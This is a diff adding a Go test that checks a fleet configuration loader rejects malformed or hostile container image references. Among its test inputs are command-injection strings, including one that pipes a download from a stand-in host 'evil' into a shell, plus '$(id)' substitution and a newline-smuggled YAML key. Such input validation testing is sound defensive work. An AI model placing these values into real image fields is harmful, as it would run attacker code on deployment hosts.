@@ -1,6 +1,7 @@
 package spec
 
 import (
+	"os"
 	"runtime"
 	"strings"
 	"testing"
@@ -88,5 +89,27 @@ func TestPrescanCountsOnlyStructure(t *testing.T) {
 	}
 	if _, _, _, ok := prescan([]byte(blockBomb(maxDepth))); !ok {
 		t.Errorf("%d block levels refused", maxDepth)
+	}
+}
+
+// worker.image and a class's image are container image references, nothing else: the value
+// lands in Lambda, AgentCore and Kubernetes definitions.
+func TestImageIsAReference(t *testing.T) {
+	src, err := os.ReadFile("../examples/minimal/fleet.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	const good = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/fleet-worker:0.1.0"
+	if !strings.Contains(string(src), good) {
+		t.Fatal("the minimal example changed its image")
+	}
+	for _, bad := range []string{`"ghcr.io/x:1; curl evil | sh"`, `"$(id)"`, `"ghcr.io/Fleet/Worker"`, `"ghcr.io/x:1\nmalicious: true"`} {
+		_, ds := Load("fleet.yaml", []byte(strings.Replace(string(src), good, bad, 1)))
+		if len(ds) == 0 || ds[0].Path != "/worker/image" || ds[0].Subject == nil {
+			t.Errorf("image %s: %v, want a positioned error at /worker/image", bad, ds)
+		}
+	}
+	if _, ds := Load("fleet.yaml", []byte(strings.Replace(string(src), good, "localhost:5000/team/fleet-worker@sha256:"+strings.Repeat("a", 64), 1))); len(ds) != 0 {
+		t.Errorf("a digest reference: %v", ds)
 	}
 }
